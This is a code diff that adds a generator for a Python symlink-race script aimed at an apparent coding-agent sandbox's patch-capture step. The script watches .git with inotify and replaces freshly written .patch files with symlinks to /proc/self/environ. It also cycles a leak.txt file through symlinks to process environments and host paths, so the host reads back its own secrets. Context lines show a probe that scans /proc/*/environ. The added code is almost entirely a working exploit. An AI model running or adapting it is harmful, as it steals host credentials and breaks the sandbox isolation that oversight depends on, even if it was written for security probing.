@@ -385,3 +385,44 @@ for pat in ['/proc/*/environ', '/proc/*/cmdline', '/workspace/**', '/tmp/**', '/
                 hits.append(f + ': ' + data[max(0, i - 40): i + 80].decode('utf8', 'replace'))
 report({'snoop': {'visible': visible, 'env': sorted(env)[:200], 'fds': sorted(fds)[:200], 'maps': sorted(maps)[:100], 'hits': hits[:50]}})
 `;
+
+/**
+ * A swapper for the swe patch capture: waits (inotify) for a `*.patch` file in .git to be closed
+ * after writing and at once replaces it by a symlink to /proc/self/environ (the server's own
+ * environment, if the host read it); meanwhile it flips a worktree file between a regular file and
+ * symlinks to `hostTargets` and /proc/{self,1}/environ. Runs for 30 s (the sandbox's end kills it).
+ */
+export function pyPatchSwapper(hostTargets: string[]): string {
+  return [
+    'import ctypes, os, select, struct, time',
+    'libc = ctypes.CDLL(None, use_errno=True)',
+    `targets = ['/proc/self/environ', '/proc/1/environ'] + ${JSON.stringify(hostTargets)}`,
+    'fd = libc.inotify_init1(os.O_NONBLOCK)',
+    "libc.inotify_add_watch(fd, b'.git', 0x8)",
+    'def swap(name, target):',
+    '    try:',
+    "        os.symlink(target, name + '.rt')",
+    "        os.rename(name + '.rt', name)",
+    '    except OSError:',
+    '        pass',
+    'end = time.time() + 30',
+    'i = 0',
+    'while time.time() < end:',
+    '    r, _, _ = select.select([fd], [], [], 0.002)',
+    '    if r:',
+    '        buf = os.read(fd, 65536)',
+    '        off = 0',
+    '        while off < len(buf):',
+    "            wd, mask, cookie, ln = struct.unpack_from('iIII', buf, off)",
+    "            name = buf[off + 16: off + 16 + ln].rstrip(b'\\0').decode()",
+    '            off += 16 + ln',
+    "            if name.endswith('.patch'):",
+    "                swap(os.path.join('.git', name), '/proc/self/environ')",
+    "    swap('leak.txt', targets[i % len(targets)])",
+    "    with open('leak.txt.rt2', 'w') as f:",
+    "        f.write('regular')",
+    "    os.rename('leak.txt.rt2', 'leak.txt')",
+    '    i += 1',
+    '',
+  ].join('\n');
+}
